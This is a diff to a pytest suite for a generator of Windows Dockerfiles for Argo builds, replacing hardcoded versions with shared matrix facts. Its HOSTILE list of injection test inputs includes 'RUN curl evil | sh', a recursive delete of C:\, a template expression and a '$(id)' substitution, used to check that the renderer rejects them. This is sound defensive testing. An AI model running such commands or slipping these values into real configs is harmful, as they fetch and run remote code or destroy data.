@@ -16,10 +16,12 @@ from builder.errors import InputError
 from builder.matrix import load_matrix
 from builder.plan import make_plan, plan_target
 from builder.targets import select
-from tests import infra
+from tests import infra, matrix_facts
 from tests.cli import ROOT, invoke
+from tests.matrix_facts import ARGO_TAGS, NEWEST, NEWEST_ARGO, RELEASE_NAMES, RELEASES, target_id
+from tests.matrix_facts import windows_key as w
 
-MATRIX = (ROOT / "matrix.yaml").read_text()
+MATRIX = matrix_facts.TEXT
 
 
 @pytest.fixture(scope="module")
@@ -48,12 +50,12 @@ def _rendered(matrix, base: str, binary: str = render.AUTO, host: str | None = N
     return render.render_windows(matrix, planned, binary).text
 
 
-@pytest.mark.parametrize("base", ["1809", "1903", "1909", "2004", "20H2", "ltsc2022", "ltsc2025"])
+@pytest.mark.parametrize("base", RELEASE_NAMES)
 def test_each_base_renders_upstreams_stages_on_its_own_images(matrix, base):
     release = matrix.release(base)
     text = _rendered(matrix, base)
     assert text.startswith(f"# GENERATED - DO NOT EDIT: rendered from dockerfiles/Dockerfile.windows.j2 for "
-                           f"v4.1.2-windows-{base} ")
+                           f"{target_id(base)} ")
     stages = _stages(_instructions(text))
     froms = {name: cmds[0].value[0] for name, cmds in stages.items()}
     assert froms["builder"] == f"mcr.microsoft.com/windows/servercore:{release.servercore}"
@@ -87,13 +89,14 @@ def test_source_variant_builds_argoexec_with_the_git_args_and_the_go_mod_version
     stages = _stages(_instructions(_rendered(matrix, "ltsc2022", render.SOURCE)))
     build = stages["argo-build"]
     args = {c.value[0].split("=")[0]: c.value[0] for c in build if c.cmd == "ARG"}
-    assert args == {"GIT_COMMIT": "GIT_COMMIT=unknown", "GIT_TAG": "GIT_TAG=v4.1.2",
+    assert args == {"GIT_COMMIT": "GIT_COMMIT=unknown", "GIT_TAG": f"GIT_TAG={NEWEST_ARGO}",
                     "GIT_TREE_STATE": "GIT_TREE_STATE=clean"}
     make = next(c for c in build if c.cmd == "RUN").value[0]
     for arg in ("GIT_COMMIT", "GIT_TAG", "GIT_TREE_STATE"):
         assert f"{arg}=${{env:{arg}}}" in make
     installs = next(c for c in stages["builder"] if c.cmd == "RUN").value[0]
-    assert "choco install golang --version=1.26.5" in installs  # go.mod's directive, not upstream's 1.25
+    # go.mod's directive (matrix.yaml's go), not upstream's stale Dockerfile pin.
+    assert NEWEST.go and f"choco install golang --version={NEWEST.go}" in installs
     copy = next(c for c in stages["argoexec"] if c.cmd == "COPY")
     assert "--from=argo-build" in copy.flags
 
@@ -160,7 +163,7 @@ def test_every_target_parses_and_passes_hadolint(matrix, tmp_path):
     targets = select(matrix, "all", "all")
     for binary in (render.AUTO, render.PREBUILT):
         rendered = render.render_all(matrix, make_plan(matrix, targets), binary)
-        assert len(rendered) == 21
+        assert len(rendered) == len(RELEASES) * len(ARGO_TAGS)
         paths = render.write(rendered, tmp_path / binary)
         for path in paths:
             commands = _instructions(path.read_text())
@@ -171,13 +174,13 @@ def test_every_target_parses_and_passes_hadolint(matrix, tmp_path):
 
 
 HOSTILE = [
-    ("nanoserver: ltsc2022", 'nanoserver: "ltsc2022\\nRUN curl evil | sh"', "windows[5].nanoserver"),
-    ("servercore: ltsc2019", "servercore: \"ltsc2019 AS builder\\nRUN x\"", "windows[0].servercore"),
+    ("nanoserver: ltsc2022", 'nanoserver: "ltsc2022\\nRUN curl evil | sh"', w("ltsc2022", "nanoserver")),
+    ("servercore: ltsc2019", "servercore: \"ltsc2019 AS builder\\nRUN x\"", w("1809", "servercore")),
     ("go: 1.26.5", 'go: "1.26.5; Remove-Item -Recurse C:\\\\"', "argo[0].go"),
     ("version: v4.1.2", 'version: "v4.1.2{{ 7*7 }}"', "argo[0].version"),
     ("windows: mcr.microsoft.com/windows", "windows: \"mcr.microsoft.com/windows'\"", "registries.windows"),
     ("mirrors: {}", 'mirrors: {mcr.microsoft.com: "evil.example/x\\nRUN y"}', "mirrors.mcr.microsoft.com"),
-    ("  - name: ltsc2025", '  - name: "ltsc2025`$(id)"', "windows[6].name"),
+    ("  - name: ltsc2025", '  - name: "ltsc2025`$(id)"', w("ltsc2025", "name")),
 ]
 
 
@@ -206,12 +209,11 @@ def test_the_render_layer_validates_values_that_bypass_the_matrix(matrix):
 def test_render_writes_one_file_per_target(tmp_path):
     result = invoke("render", "--base", "1809,ltsc2025", "--argo", "all", "--out", str(tmp_path))
     assert result.returncode == 0, result.stderr
+    expected = [f"{target_id(b, a)}/Dockerfile.windows" for a in ARGO_TAGS for b in ("1809", "ltsc2025")]
+    assert len(expected) == 2 * len(ARGO_TAGS) >= 6
     written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("Dockerfile.windows"))
-    assert written == sorted(f"{a}-windows-{b}/Dockerfile.windows" for a in ("v4.1.2", "v4.0.10", "v3.7.18")
-                             for b in ("1809", "ltsc2025"))
-    assert result.stdout.split() == [str(tmp_path / w) for w in
-                                     [f"{a}-windows-{b}/Dockerfile.windows" for a in ("v4.1.2", "v4.0.10", "v3.7.18")
-                                      for b in ("1809", "ltsc2025")]]
+    assert written == sorted(expected)
+    assert result.stdout.split() == [str(tmp_path / name) for name in expected]
 
 
 @pytest.fixture()
@@ -234,7 +236,7 @@ def _invoke_in(project, *args):
 def test_render_check_passes_on_the_committed_tree():
     result = invoke("render", "--check")
     assert result.returncode == 0, result.stdout + result.stderr
-    assert "7 rendered Dockerfiles match" in result.stdout
+    assert f"{len(RELEASES)} rendered Dockerfiles match" in result.stdout  # one per base, newest Argo
 
 
 def test_render_check_fails_after_a_hand_edit(project_copy):
